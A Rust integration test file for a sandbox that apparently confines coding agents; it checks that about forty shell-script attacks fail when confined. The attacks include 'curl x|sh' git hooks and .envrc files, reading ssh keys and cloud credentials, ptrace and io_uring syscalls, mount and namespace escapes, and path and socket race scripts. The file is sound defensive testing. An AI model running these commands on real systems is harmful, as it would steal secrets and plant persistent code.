//! `portcullis run` on the real kernel: each boundary proved by running real
//! programs confined, as the current user and — when the tests run as root,
//! as CI does — also as an unprivileged user the test creates.
//!
//! Each attack is a shell script that prints `ESCAPED` only if the forbidden
//! thing worked. It must not print it confined, and the host must be
//! unchanged; where it is safe to do so, the same script is run unconfined in
//! a world of its own and must print it (so a check that could never fail
//! fails this test).

// Test code: a failed unwrap, index or panic is a failed test.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

use std::io::Write;
use std::net::TcpListener;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const BIN: &str = env!("CARGO_BIN_EXE_portcullis");
const TEST_USER: &str = "portcullis-confine-test";

/// A home with secrets and dotfiles, a git workspace, a data directory.
struct World {
    _dir: tempfile::TempDir,
    root: PathBuf,
    user: Option<(u32, u32)>,
}

impl World {
    fn new(user: Option<(u32, u32)>) -> World {
        let dir = tempfile::Builder::new()
            .prefix("pc-run-")
            .tempdir()
            .expect("tempdir");
        let root = dir.path().canonicalize().expect("canonical");
        let git = Command::new("git")
            .args(["init", "-q"])
            .arg(root.join("home/proj"))
            .status()
            .expect("git init");
        assert!(git.success());
        let files: &[(&str, &str)] = &[
            ("home/.bashrc", "# rc\n"),
            ("home/.ssh/id_rsa", "KEYDATA\n"),
            ("home/.aws/credentials", "KEYDATA\n"),
            ("home/proj/.git/config", "[core]\n"),
            ("home/proj/.git/HEAD", "ref: refs/heads/main\n"),
            ("home/proj/.git/hooks/README", "hooks\n"),
            ("home/proj/.claude/settings.json", "{}\n"),
            ("home/proj/.claude/worktrees/w1/file.rs", "fn w() {}\n"),
            ("home/proj/src/main.rs", "fn main() {}\n"),
            ("home/proj/.github/workflows/ci.yml", "on: push\n"),
            ("home/proj/.env", "KEYDATA\n"),
            ("data/portcullis.db", "SQLite format 3\n"),
            ("home/other/.env", "KEYDATA\n"),
            ("home/other/src/lib.rs", "KEYDATA\n"),
            ("home/Downloads/report.txt", "REPORT\n"),
            ("home/Downloads/other.txt", "KEYDATA\n"),
            ("home/bin/tool", "#!/bin/sh\necho tool-ran\n"),
            ("home/.config/tool/settings", "SETTINGS\n"),
        ];
        for (path, text) in files {
            let p = root.join(path);
            std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
            std::fs::write(&p, text).expect("write");
        }
        std::os::unix::fs::symlink(root.join("home/.bashrc"), root.join("home/proj/link"))
            .expect("symlink");
        if let Some((uid, gid)) = user {
            let status = Command::new("chown")
                .arg("-R")
                .arg(format!("{uid}:{gid}"))
                .arg(&root)
                .status()
                .expect("chown");
            assert!(status.success());
        }
        World {
            _dir: dir,
            root,
            user,
        }
    }

    fn home(&self) -> PathBuf {
        self.root.join("home")
    }

    fn ws(&self) -> PathBuf {
        self.root.join("home/proj")
    }

    fn data(&self) -> PathBuf {
        self.root.join("data")
    }

    /// `program` in the workspace with this world's environment only.
    fn command(&self, program: impl AsRef<std::ffi::OsStr>) -> Command {
        let home = self.home();
        let mut c = Command::new(program);
        c.env_clear()
            .env("PATH", "/usr/local/bin:/usr/bin:/bin")
            .env("HOME", &home)
            .env("XDG_CONFIG_HOME", home.join(".config"))
            .env("XDG_DATA_HOME", home.join(".local/share"))
            .env("PORTCULLIS_DATA_DIR", self.data())
            .env("PORTCULLIS_MANAGED_CONFIG", self.root.join("managed.toml"))
            .current_dir(self.ws());
        c
    }

    /// Runs `bash -c script` in the workspace, confined (`portcullis run`
    /// with `extra` options) or not.
    fn bash(&self, script: &str, confined: bool, extra: &[&str], env: &[(&str, &str)]) -> Output {
        let mut argv: Vec<String> = Vec::new();
        if let Some((uid, gid)) = self.user {
            argv.extend([
                "setpriv".into(),
                format!("--reuid={uid}"),
                format!("--regid={gid}"),
                "--clear-groups".into(),
                "--".into(),
            ]);
        }
        if confined {
            argv.push(BIN.into());
            argv.push("run".into());
            argv.extend(extra.iter().map(|s| s.to_string()));
            argv.push("--".into());
        }
        argv.extend(["bash".into(), "-c".into(), script.into()]);
        let (program, args) = argv.split_first().expect("argv");
        let mut c = self.command(program);
        c.args(args).env("DATA", self.data());
        for (k, v) in env {
            c.env(k, v);
        }
        c.output().expect("run")
    }
}

/// The users to run as: the current one, and a plain user when root.
fn users() -> Vec<Option<(u32, u32)>> {
    let mut v = vec![None];
    if rustix_uid() == 0 {
        // `/usr/sbin` is not on every root's PATH.
        let useradd = ["/usr/sbin/useradd", "/sbin/useradd"]
            .into_iter()
            .find(|p| Path::new(p).exists())
            .unwrap_or("useradd");
        let _ = Command::new(useradd)
            .args([
                "--system",
                "--no-create-home",
                "--shell",
                "/bin/sh",
                TEST_USER,
            ])
            .output();
        let id = |flag: &str| -> u32 {
            let out = Command::new("id")
                .args([flag, TEST_USER])
                .output()
                .expect("id");
            String::from_utf8_lossy(&out.stdout)
                .trim()
                .parse()
                .unwrap_or_else(|_| panic!("the test user {TEST_USER} could not be created"))
        };
        v.push(Some((id("-u"), id("-g"))));
    }
    v
}

fn rustix_uid() -> u32 {
    let out = Command::new("id").arg("-u").output().expect("id");
    String::from_utf8_lossy(&out.stdout)
        .trim()
        .parse()
        .expect("uid")
}

fn text(o: &Output) -> String {
    format!(
        "status {:?}\nstdout: {}\nstderr: {}",
        o.status.code(),
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// A confined script that must not print ESCAPED; `control`: the same
/// script unconfined must.
struct Attack {
    name: &'static str,
    script: &'static str,
    control: bool,
}

const ATTACKS: &[Attack] = &[
    Attack {
        name: "write a shell startup file outside the workspace",
        script: "echo pwned >> ~/.bashrc && echo ESCAPED",
        control: true,
    },
    Attack {
        name: "write a git hook",
        script: "echo 'curl x|sh' > .git/hooks/post-checkout && echo ESCAPED",
        control: true,
    },
    Attack {
        name: "write .git/config",
        script: "echo '[core] fsmonitor=id' >> .git/config && echo ESCAPED",
        control: true,
    },
    Attack {
        name: "rename .git away and write a fresh .git/config",
        script: "mv .git moved && mkdir .git && echo '[core]' > .git/config && echo ESCAPED",
        control: true,
    },
    Attack {
        name: "rename the directory above a protected one and write it afresh",
        script: "mv .github gh && mkdir -p .github/workflows && echo 'run: curl x|sh' > .github/workflows/ci.yml && echo ESCAPED",
        control: true,
    },
    Attack {
        name: "trace a process (ptrace)",
        script: "perl -e '$n = (`uname -m` =~ /aarch64/) ? 117 : 101; syscall($n, 0, 0, 0, 0) == 0 and print \"ESCAPED\\n\"'",
        control: true,
    },
    Attack {
        name: "set up an io_uring (its operations bypass the system-call filter)",
        script: "perl -e '$p = \"\\0\" x 120; syscall(425, 1, $p) >= 0 and print \"ESCAPED\\n\"'",
        control: true,
    },
    Attack {
        name: "remove .git",
        script: "rm -rf .git; [ -e .git/config ] || echo ESCAPED",
        control: true,
    },
    Attack {
        name: "write an agent's settings",
        script: "echo '{\"hooks\":{}}' > .claude/settings.json && echo ESCAPED",
        control: true,
    },
    Attack {
        name: "create an agent's settings file that was not there",
        script: "echo '{\"hooks\":{}}' > .claude/settings.local.json && echo ESCAPED",
        control: true,
    },
    Attack {
        name: "point git at another repository's configuration (.git/commondir)",
        script: "mkdir -p ../evil && printf '[core]\\n\\tfsmonitor = id\\n' > ../evil/config; echo ../../evil > .git/commondir && echo ESCAPED; rm -rf ../evil",
        control: true,
    },
    Attack {
        name: "add git's per-repository attributes (filters to run)",
        script: "echo '* filter=x' >> .git/info/attributes && echo ESCAPED",
        control: true,
    },
    Attack {
        name: "reach into the supervisor (the namespace's first process)",
        script: "python3 -c \"open('/proc/1/mem', 'r+b')\" 2>/dev/null && echo ESCAPED; readlink /proc/1/fd/* 2>/dev/null | grep -q . && echo ESCAPED",
        control: false,
    },
    Attack {
        name: "create an editor's settings directory that was not there",
        script: "mkdir -p .vscode && echo '{\"tasks\":[]}' > .vscode/tasks.json && echo ESCAPED",
        control: true,
    },
    Attack {
        name: "create a startup file that was not there (.envrc)",
        script: "echo 'curl x|sh' > .envrc && echo ESCAPED",
        control: true,
    },
    Attack {
        name: "create a nested repository's configuration",
        script: "mkdir -p sub/.git && echo '[core] fsmonitor=id' > sub/.git/config && echo ESCAPED; rm -rf sub",
        control: true,
    },
    Attack {
        name: "rename a prepared directory onto a protected name that was not there",
        script: "mkdir -p prep && echo '{}' > prep/tasks.json && mv prep .vscode && [ -e .vscode/tasks.json ] && echo ESCAPED; rm -rf prep",
        control: true,
    },
    Attack {
        name: "symlink a protected name that was not there to a writable directory",
        script: "mkdir -p prep && echo '{}' > prep/tasks.json && ln -s prep .vscode && [ -e .vscode/tasks.json ] && echo ESCAPED; rm -rf prep",
        control: true,
    },
    Attack {
        name: "hard-link a workspace file to a protected name that was not there",
        script: "echo 'curl x|sh' > prep && ln prep .envrc && echo ESCAPED; rm -f prep",
        control: true,
    },
    Attack {
        name: "a dangling symlink whose target is a protected name, written through",
        script: "ln -s .mcp.json innocent && echo '{}' > innocent && [ -e .mcp.json ] && echo ESCAPED; rm -f innocent",
        control: true,
    },
    Attack {
        name: "create a protected name through a directory descriptor and a symlinked parent",
        script: "ln -s . here && python3 -c \"import os; d = os.open('here', os.O_RDONLY); os.close(os.open('.mcp.json', os.O_CREAT | os.O_WRONLY, dir_fd=d))\" && [ -e .mcp.json ] && echo ESCAPED; rm -f here",
        control: true,
    },
    Attack {
        name: "rewrite the path between the check and the call (another thread)",
        script: RACE,
        control: true,
    },
    Attack {
        name: "hard-link a protected file and write the link",
        script: "ln .git/config hl && echo x >> hl && echo ESCAPED",
        control: true,
    },
    Attack {
        name: "write through a symlink in the workspace that points outside",
        script: "echo pwned >> link && echo ESCAPED",
        control: true,
    },
    Attack {
        name: "read an ssh key",
        script: "grep -q KEYDATA ~/.ssh/id_rsa && echo ESCAPED",
        control: true,
    },
    Attack {
        name: "read cloud credentials",
        script: "grep -q KEYDATA ~/.aws/credentials && echo ESCAPED",
        control: true,
    },
    Attack {
        name: "list an ssh directory",
        script: "ls ~/.ssh | grep -q id_rsa && echo ESCAPED",
        control: true,
    },
    Attack {
        name: "read the workspace's .env",
        script: "grep -q KEYDATA .env && echo ESCAPED",
        control: true,
    },
    Attack {
        name: "read another project's .env in the home",
        script: "grep -q KEYDATA ~/other/.env && echo ESCAPED",
        control: true,
    },
    Attack {
        name: "read another project's code in the home",
        script: "grep -rq KEYDATA ~/other ~/Downloads && echo ESCAPED",
        control: true,
    },
    Attack {
        name: "read portcullis' database",
        script: "grep -q SQLite \"$DATA/portcullis.db\" && echo ESCAPED",
        control: true,
    },
    Attack {
        name: "a grandchild writes a startup file",
        script: "bash -c 'sh -c \"echo x >> ~/.bashrc && echo ESCAPED\"'",
        control: true,
    },
    Attack {
        name: "unmount what covers .git",
        script: "umount -l .git && echo x >> .git/config && echo ESCAPED",
        control: false,
    },
    Attack {
        name: "mount over the workspace's protected directory",
        script: "mount -t tmpfs none .git && echo ESCAPED",
        control: false,
    },
    Attack {
        name: "leave the confinement through a new user namespace",
        script: "unshare -Urm true && echo ESCAPED",
        control: false,
    },
    Attack {
        name: "a secret variable of the environment",
        script: "[ -n \"$AWS_SECRET_ACCESS_KEY$PORTCULLIS_SESSION_TOKEN\" ] && echo ESCAPED",
        control: true,
    },
    Attack {
        name: "use the user's ssh agent",
        script: "perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Peer => $ENV{SSH_AUTH_SOCK}) and print \"ESCAPED\\n\"'",
        control: true,
    },
    Attack {
        name: "see another process' command line",
        script: "cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' ' | grep -q 'MARKER_SECRET[_]sleeper' && echo ESCAPED",
        control: true,
    },
    Attack {
        name: "read another process' environment",
        script: "grep -q MARKER_SECRET /proc/$TARGET/environ && echo ESCAPED",
        control: true,
    },
];

/// One process calls `open(buf, O_CREAT)` in a loop while another flips
/// `buf` (shared memory) between a harmless name and `.envrc`: a check that
/// let the kernel read the path again after it would sooner or later create
/// `.envrc`. Two processes, so the flipping never waits for the opener.
const RACE: &str = r#"python3 - <<'EOF'
import ctypes, mmap, os, signal, time
libc = ctypes.CDLL(None, use_errno=True)
shared = mmap.mmap(-1, 4096)
shared[0:9] = b"harmless\0"
flipper = os.fork()
if flipper == 0:
    while True:
        shared[0:9] = b".envrc\0\0\0"
        shared[0:9] = b"harmless\0"
path = ctypes.addressof(ctypes.c_char.from_buffer(shared))
deadline = time.monotonic() + 3
while time.monotonic() < deadline:
    fd = libc.open(ctypes.c_char_p(path), os.O_CREAT | os.O_WRONLY, 0o644)
    if fd >= 0:
        os.close(fd)
    if os.path.exists(".envrc"):
        print("ESCAPED")
        break
os.kill(flipper, signal.SIGKILL)
os.waitpid(flipper, 0)
if os.path.exists("harmless"):
    os.unlink("harmless")
EOF"#;

#[test]
fn attacks_fail_confined_and_work_unconfined() {
    for user in users() {
        // A process of the same user outside the confinement, with a
        // secret in its environment.
        let mut target = Command::new("setpriv");
        if let Some((uid, gid)) = user {
            target.args([
                format!("--reuid={uid}"),
                format!("--regid={gid}"),
                "--clear-groups".into(),
            ]);
        }
        let mut target = target
            .args(["--", "bash", "-c", "exec -a MARKER_SECRET_sleeper sleep 60"])
            .env("MARKER", "MARKER_SECRET")
            .spawn()
            .expect("start the target process");
        let pid = target.id().to_string();
        for attack in ATTACKS {
            // An ssh agent's socket, where the environment says it is.
            let agent_dir = tempfile::tempdir().unwrap();
            let agent_sock = agent_dir.path().join("agent.sock");
            let agent = UnixListener::bind(&agent_sock).expect("agent socket");
            if let Some((uid, gid)) = user {
                std::os::unix::fs::chown(agent_dir.path(), Some(uid), Some(gid)).unwrap();
                std::os::unix::fs::chown(&agent_sock, Some(uid), Some(gid)).unwrap();
            }
            let sock = agent_sock.to_string_lossy().into_owned();
            let env = [
                ("AWS_SECRET_ACCESS_KEY", "KEYDATA"),
                ("PORTCULLIS_SESSION_TOKEN", "KEYDATA"),
                ("TARGET", pid.as_str()),
                ("SSH_AUTH_SOCK", sock.as_str()),
            ];
            let world = World::new(user);
            let before = snapshot(&world.root);
            let out = world.bash(attack.script, true, &[], &env);
            assert!(
                !String::from_utf8_lossy(&out.stdout).contains("ESCAPED"),
                "{} (as {user:?}): escaped the confinement\n{}",
                attack.name,
                text(&out)
            );
            assert_ne!(
                out.status.code(),
                Some(125),
                "{} (as {user:?}): portcullis refused to run it\n{}",
                attack.name,
                text(&out)
            );
            let after = snapshot(&world.root);
            assert_eq!(
                before,
                after,
                "{} (as {user:?}): the host changed\n{}",
                attack.name,
                text(&out)
            );
            if attack.control {
                let world = World::new(user);
                let out = world.bash(attack.script, false, &[], &env);
                assert!(
                    String::from_utf8_lossy(&out.stdout).contains("ESCAPED"),
                    "{} (as {user:?}): the control run unconfined did not succeed, so the case proves nothing\n{}",
                    attack.name,
                    text(&out)
                );
            }
            drop(agent);
        }
        let _ = target.kill();
        let _ = target.wait();
    }
}

/// Every file's path and contents under `root` (symlinks as their target).
fn snapshot(root: &Path) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for e in entries.flatten() {
            let p = e.path();
            let t = e.file_type().expect("type");
            let key = p.strip_prefix(root).expect("under").display().to_string();
            if t.is_symlink() {
                out.push((
                    key,
                    format!("-> {}", std::fs::read_link(&p).expect("link").display()),
                ));
            } else if t.is_dir() {
                out.push((key, "dir".into()));
                stack.push(p);
            } else {
                out.push((key, std::fs::read_to_string(&p).unwrap_or_default()));
            }
        }
    }
    out.sort();
    out
}

#[test]
fn the_workspace_and_a_private_temporary_directory_are_writable() {
    for user in users() {
        let world = World::new(user);
        // All of `.git` is protected: git's own writes fail inside…
        let commit = "git add src/main.rs && git -c user.name=t -c user.email=t@x commit -qm confined && git checkout -qb side && git log --format=%s";
        let out = world.bash(commit, true, &[], &[]);
        assert!(!out.status.success(), "as {user:?}: {}", text(&out));
        // …unless `--git-writes` (`[confine] git_writes`) leaves git's own
        // data writable: an allowed `git commit` works, and what steers git
        // (config, hooks, info, a redirect to another repository) stays out
        // of reach.
        let out = world.bash(commit, true, &["--git-writes"], &[]);
        assert_eq!(
            String::from_utf8_lossy(&out.stdout).trim(),
            "confined",
            "as {user:?}: {}",
            text(&out)
        );
        let config = std::fs::read_to_string(world.ws().join(".git/config")).unwrap();
        let out = world.bash(
            "echo x >> .git/config; echo x > .git/hooks/pre-commit; echo ../x > .git/commondir; \
             echo '* filter=x' >> .git/info/attributes; mkdir .git/modules; ln -s /tmp .git/HEAD2; \
             mv .git/config .git/config2; mv .git gone; ls .git",
            true,
            &["--git-writes"],
            &[],
        );
        let ls: Vec<&str> = std::str::from_utf8(&out.stdout).unwrap().lines().collect();
        for absent in ["commondir", "modules", "HEAD2", "config2"] {
            assert!(
                !ls.contains(&absent),
                "as {user:?}: {absent} made\n{}",
                text(&out)
            );
        }
        assert!(
            !world.ws().join(".git/hooks/pre-commit").exists(),
            "{}",
            text(&out)
        );
        assert!(
            !world.ws().join(".git/info/attributes").exists(),
            "{}",
            text(&out)
        );
        assert_eq!(
            std::fs::read_to_string(world.ws().join(".git/config")).unwrap(),
            config
        );
        let out = world.bash(
            "echo hello > out.txt && cat out.txt && cat src/main.rs && echo t > \"$TMPDIR/t\" && cat \"$TMPDIR/t\" && echo \"$TMPDIR\" && git status --short >/dev/null && echo git-ok && echo w >> .claude/worktrees/w1/file.rs; exit 7",
            true,
            &[],
            &[],
        );
        let stdout = String::from_utf8_lossy(&out.stdout).to_string();
        assert_eq!(out.status.code(), Some(7), "{}", text(&out));
        let lines: Vec<&str> = stdout.lines().collect();
        assert_eq!(lines.first(), Some(&"hello"), "{}", text(&out));
        assert_eq!(lines.get(1), Some(&"fn main() {}"), "{}", text(&out));
        assert_eq!(lines.get(2), Some(&"t"), "{}", text(&out));
        assert_eq!(lines.get(4), Some(&"git-ok"), "{}", text(&out));
        assert_eq!(
            std::fs::read_to_string(world.ws().join("out.txt")).expect("written on the host"),
            "hello\n"
        );
        // The exempt part of a protected directory stays writable.
        assert_eq!(
            std::fs::read_to_string(world.ws().join(".claude/worktrees/w1/file.rs")).unwrap(),
            "fn w() {}\nw\n",
            "{}",
            text(&out)
        );
        // The private temporary directory is gone with the run.
        let tmpdir = lines.get(3).expect("TMPDIR printed");
        assert!(tmpdir.contains("portcullis-run-"), "{tmpdir}");
        assert!(!Path::new(tmpdir).exists(), "{tmpdir} was left behind");
    }
}

#[test]
fn new_names_in_the_workspace_behave_as_unconfined() {
    // Every kind of new name a program makes, with its modes and errors:
    // the same output confined (where each is performed by the supervisor
    // of new names) as unconfined.
    let script = r#"set -u
umask 027; echo a > f1; stat -c '%a %s' f1
umask 022; mkdir -p d1/d2; stat -c '%a' d1 d1/d2
echo b >> f1; cat f1
mkfifo p1; stat -c '%F' p1
ln -s f1 s1; readlink s1; echo c > s1; cat f1
ln f1 h1; stat -c '%h' f1
mv h1 d1/moved; ls d1
cp -r d1 d3; ls d3
set -o noclobber; (echo x > f1) 2>/dev/null || echo noclobber-refused; set +o noclobber
mkdir d1 2>/dev/null || echo mkdir-exists
ln -s nowhere dangling; echo made > dangling; cat nowhere
python3 -c "import os; os.open('f1', os.O_CREAT | os.O_EXCL | os.O_WRONLY)" 2>&1 | grep -o FileExistsError
python3 -c "import os; os.open('s1', os.O_CREAT | os.O_WRONLY | os.O_NOFOLLOW)" 2>&1 | grep -o 'Too many levels'
python3 -c "import os; os.mkdir('d1/')" 2>&1 | grep -o FileExistsError
python3 -c "import os; d = os.open('d1', os.O_RDONLY); os.close(os.open('viafd', os.O_CREAT | os.O_WRONLY, dir_fd=d)); print(os.path.exists('d1/viafd'))"
python3 -c "import os; fd = os.open('f1', os.O_CREAT | os.O_RDONLY | os.O_CLOEXEC); import fcntl; print(bool(fcntl.fcntl(fd, fcntl.F_GETFD) & fcntl.FD_CLOEXEC))"
[ "$(uname -m)" = x86_64 ] && python3 -c "
import ctypes, os
sc = ctypes.CDLL(None, use_errno=True).syscall
def e(r): return r if r >= 0 else -ctypes.get_errno()
print([e(sc(85, b'l-creat', 0o644)) >= 0, e(sc(2, b'l-open', 0o101, 0o600)) >= 0, e(sc(83, b'l-dir', 0o755)),
       e(sc(88, b'l-creat', b'l-sym')), e(sc(86, b'l-creat', b'l-hard')), e(sc(82, b'l-hard', b'l-moved')),
       e(sc(264, -100, b'l-moved', -100, b'l-moved2')), e(sc(133, b'l-fifo', 0o10644, 0)), e(sc(83, b'l-dir', 0o755))])
" && stat -c '%n %a' l-creat l-open l-dir l-moved2
w="${TMPDIR:-/tmp}/pc-git-$$" && mkdir "$w" && cd "$w" && git init -q && echo x > x && git add x && git -c user.email=a@b -c user.name=n commit -qm m && git log --format=%s
"#;
    for user in users() {
        let confined = World::new(user);
        let out_c = confined.bash(script, true, &[], &[]);
        let plain = World::new(user);
        let out_p = plain.bash(script, false, &[], &[]);
        assert_eq!(
            String::from_utf8_lossy(&out_c.stdout),
            String::from_utf8_lossy(&out_p.stdout),
            "as {user:?}: confined\n{}\nunconfined\n{}",
            text(&out_c),
            text(&out_p)
        );
        assert!(
            String::from_utf8_lossy(&out_p.stdout).contains("noclobber-refused"),
            "{}",
            text(&out_p)
        );
        // The older system calls (open, creat, mkdir, …) are read in their
        // `*at` form by the supervisor: they ran, with the same results.
        if cfg!(target_arch = "x86_64") {
            let stdout = String::from_utf8_lossy(&out_c.stdout);
            assert!(
                stdout.contains("[True, True, 0, 0, 0, 0, 0, 0, -17]")
                    && stdout.contains("l-creat 644")
                    && stdout.contains("l-dir 755"),
                "{}",
                text(&out_c)
            );
        }
    }
}

#[test]
fn a_file_outside_the_workspace_is_writable_exactly_when_named() {
    for user in users() {
        let world = World::new(user);
        let downloads = world.home().join("Downloads");
        let (exists, new, untouched) = (
            downloads.join("report.txt"),
            downloads.join("new.txt"),
            downloads.join("untouched.txt"),
        );
        let name = |p: &Path| p.to_string_lossy().into_owned();
        let options = [
            "--write",
            &name(&exists),
            "--write",
            &name(&new),
            "--write",
            &name(&untouched),
        ];
        let out = world.bash(
            "echo more >> ~/Downloads/report.txt && echo fresh > ~/Downloads/new.txt && cat ~/Downloads/report.txt \
             && { echo x > ~/Downloads/other.txt || echo other-refused; } \
             && { echo x > ~/Downloads/neighbour.txt || echo neighbour-refused; } \
             && { rm ~/Downloads/report.txt || echo remove-refused; } \
             && { cat ~/Downloads/other.txt || echo other-unreadable; }",
            true,
            &options,
            &[],
        );
        let stdout = String::from_utf8_lossy(&out.stdout);
        for expected in [
            "REPORT\nmore\n",
            "other-refused",
            "neighbour-refused",
            "remove-refused",
            "other-unreadable",
        ] {
            assert!(
                stdout.contains(expected),
                "as {user:?}: {expected}\n{}",
                text(&out)
            );
        }
        assert_eq!(std::fs::read_to_string(&exists).unwrap(), "REPORT\nmore\n");
        assert_eq!(std::fs::read_to_string(&new).unwrap(), "fresh\n");
        assert_eq!(
            std::fs::read_to_string(downloads.join("other.txt")).unwrap(),
            "KEYDATA\n"
        );
        assert!(!downloads.join("neighbour.txt").exists());
        // Made empty for the kernel to name, left empty: gone again.
        assert!(!untouched.exists(), "as {user:?}: {}", text(&out));
        // Never a protected path, never a directory.
        for refused in [name(&world.ws().join(".git/config")), name(&downloads)] {
            let out = world.bash("true", true, &["--write", &refused], &[]);
            assert_eq!(out.status.code(), Some(125), "{refused}: {}", text(&out));
        }
    }
}

#[test]
fn a_sessions_standing_grants_join_the_profile_with_its_token() {
    let world = World::new(None);
    let cli = |args: &[&str]| {
        let out = world.command(BIN).args(args).output().unwrap();
        assert!(out.status.success(), "{args:?}: {}", text(&out));
        String::from_utf8_lossy(&out.stdout).to_string()
    };
    // The data directory must be the store's: a fresh one.
    let _ = std::fs::remove_dir_all(world.data());
    let registered = cli(&[
        "sessions",
        "register",
        "--id",
        "S1",
        "--agent",
        "claude-code",
    ]);
    let token = registered
        .split_whitespace()
        .find(|w| {
            w.len() >= 32
                && w.chars()
                    .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
        })
        .unwrap_or_else(|| panic!("no token in {registered:?}"))
        .to_string();
    let creds = world.home().join(".aws/credentials");
    let report = world.home().join("Downloads/report.txt");
    // A once-grant is for one call, never part of a profile.
    let other = world.home().join("Downloads/other.txt");
    for (op, path, scope) in [
        ("read", &creds, "session"),
        ("write", &report, "session"),
        ("read", &other, "once"),
    ] {
        let path = path.to_string_lossy();
        cli(&[
            "grants",
            "add",
            "--session",
            "S1",
            "--scope",
            scope,
            "--op",
            op,
            "--path",
            &path,
        ]);
    }
    let script = "cat ~/.aws/credentials; echo more >> ~/Downloads/report.txt && echo written; cat ~/Downloads/other.txt || echo other-hidden";
    let out = world.bash(script, true, &["--session", "S1", "--token", &token], &[]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("KEYDATA") && stdout.contains("written") && stdout.contains("other-hidden"),
        "{}",
        text(&out)
    );
    assert_eq!(std::fs::read_to_string(&report).unwrap(), "REPORT\nmore\n");
    // Without its token, or with another, nothing runs.
    for extra in [
        &["--session", "S1"][..],
        &["--session", "S1", "--token", "wrong"][..],
    ] {
        let out = world.bash(script, true, extra, &[]);
        assert_eq!(out.status.code(), Some(125), "{extra:?}: {}", text(&out));
        assert!(
            !String::from_utf8_lossy(&out.stdout).contains("KEYDATA"),
            "{}",
            text(&out)
        );
    }
}

#[test]
fn network_off_reaches_no_host_listener_and_on_does() {
    let tcp = TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = tcp.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for conn in tcp.incoming().flatten() {
            drop(conn);
        }
    });
    for user in users() {
        let world = World::new(user);
        let socket = world.data().join("hook.sock");
        let unix = UnixListener::bind(&socket).expect("unix listen");
        if let Some((uid, gid)) = user {
            std::os::unix::fs::chown(&socket, Some(uid), Some(gid)).expect("chown");
        }
        std::thread::spawn(move || {
            for conn in unix.incoming().flatten() {
                drop(conn);
            }
        });
        let tcp_script = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo ESCAPED");
        let off = world.bash(&tcp_script, true, &[], &[]);
        assert!(
            !String::from_utf8_lossy(&off.stdout).contains("ESCAPED"),
            "network off reached a host listener\n{}",
            text(&off)
        );
        let on = world.bash(&tcp_script, true, &["--network", "on"], &[]);
        assert!(
            String::from_utf8_lossy(&on.stdout).contains("ESCAPED"),
            "network on did not reach the host listener\n{}",
            text(&on)
        );
        let unix_script = "perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Peer => \"$ENV{DATA}/hook.sock\") and print \"ESCAPED\\n\"'";
        for extra in [&[][..], &["--network", "on"][..]] {
            let out = world.bash(unix_script, true, extra, &[]);
            assert!(
                !String::from_utf8_lossy(&out.stdout).contains("ESCAPED"),
                "the daemon's socket was reachable ({extra:?})\n{}",
                text(&out)
            );
        }
        let control = world.bash(unix_script, false, &[], &[]);
        assert!(
            String::from_utf8_lossy(&control.stdout).contains("ESCAPED"),
            "the socket control failed\n{}",
            text(&control)
        );
    }
}

/// Connects in a loop through a socket address (shared memory) whose port
/// another process flips between `$OTHER` and `$GUARDED`: a check that let
/// the kernel read the address again after it would sooner or later connect
/// to `$GUARDED`.
const CONNECT_RACE: &str = r#"python3 - <<'EOF'
import ctypes, mmap, os, signal, socket, struct, time
libc = ctypes.CDLL(None, use_errno=True)
other, guarded = int(os.environ["OTHER"]), int(os.environ["GUARDED"])
def addr(port):
    return struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton("127.0.0.1") + bytes(8)
a, b = addr(other), addr(guarded)
shared = mmap.mmap(-1, 4096)
shared[0:16] = a
flipper = os.fork()
if flipper == 0:
    while True:
        shared[0:16] = b
        shared[0:16] = a
buf = ctypes.addressof(ctypes.c_char.from_buffer(shared))
deadline = time.monotonic() + 2
while time.monotonic() < deadline:
    s = socket.socket()
    libc.connect(s.fileno(), ctypes.c_void_p(buf), 16)
    s.close()
os.kill(flipper, signal.SIGKILL)
os.waitpid(flipper, 0)
EOF"#;

#[test]
fn with_the_network_on_the_approval_servers_port_stays_unreachable() {
    // The approval server's port (`[server] addr`) and another, each
    // counting the connections it accepts.
    let listen = || {
        let tcp = TcpListener::bind("127.0.0.1:0").expect("listen");
        let port = tcp.local_addr().expect("addr").port();
        let count = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let seen = std::sync::Arc::clone(&count);
        std::thread::spawn(move || {
            for conn in tcp.incoming().flatten() {
                seen.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                drop(conn);
            }
        });
        (port, count)
    };
    let (guarded, reached) = listen();
    let (other, _) = listen();
    let reached_now = || reached.load(std::sync::atomic::Ordering::SeqCst);
    for user in users() {
        let world = World::new(user);
        let config = world.root.join("server.toml");
        std::fs::write(
            &config,
            format!("[server]\naddr = \"127.0.0.1:{guarded}\"\n"),
        )
        .unwrap();
        let config = config.to_string_lossy().into_owned();
        let (g, o) = (guarded.to_string(), other.to_string());
        let env = [("GUARDED", g.as_str()), ("OTHER", o.as_str())];
        let options = ["--config", config.as_str(), "--network", "on"];
        for script in [
            "exec 3<>/dev/tcp/127.0.0.1/$GUARDED && echo ESCAPED",
            "exec 3<>/dev/tcp/localhost/$GUARDED && echo ESCAPED",
            "python3 -c \"import socket; socket.create_connection(('::ffff:127.0.0.1', $GUARDED))\" && echo ESCAPED",
            CONNECT_RACE,
        ] {
            let before = reached_now();
            let out = world.bash(script, true, &options, &env);
            // As for the control below: a connection the listener has not
            // counted yet would be missed.
            std::thread::sleep(std::time::Duration::from_millis(200));
            assert!(
                !String::from_utf8_lossy(&out.stdout).contains("ESCAPED")
                    && reached_now() == before,
                "as {user:?}: the approval server's port was reached: {script}\n{}",
